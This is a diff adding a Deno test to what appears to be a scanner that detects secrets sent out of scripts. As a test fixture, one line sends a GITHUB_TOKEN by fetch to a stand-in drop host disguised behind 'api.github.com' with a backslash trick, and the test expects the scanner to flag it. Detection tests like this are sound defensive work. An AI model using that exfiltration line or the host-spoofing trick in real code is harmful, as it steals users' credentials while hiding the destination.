@@ -2447,3 +2447,20 @@ Deno.test("PowerShell: a request goes to its -Uri or its address argument, not t
     ["info"],
   );
 });
+
+Deno.test("a backslash ends a URL's host as fetch reads it: no user name hides the real host behind an honest one", () => {
+  const flows = (text: string) => secretFlows("scripts/s.js", text);
+  const sent = flows(
+    'fetch("https://in.drop.example\\\\@api.github.com/", { method: "POST", body: process.env.GITHUB_TOKEN });\n',
+  );
+  assert.deepEqual(sent.map(([severity]) => severity), ["critical"]);
+  assert.match(sent[0]![1]!, /→ in\.drop\.ex/);
+  // A user name before the host is still passed over; the key to its own API is the honest case.
+  assert.deepEqual(
+    flows(
+      'fetch("https://x-access-token@api.github.com/user", { headers: { Authorization: process.env.GITHUB_TOKEN } });\n',
+    )
+      .map(([severity]) => severity),
+    ["info"],
+  );
+});
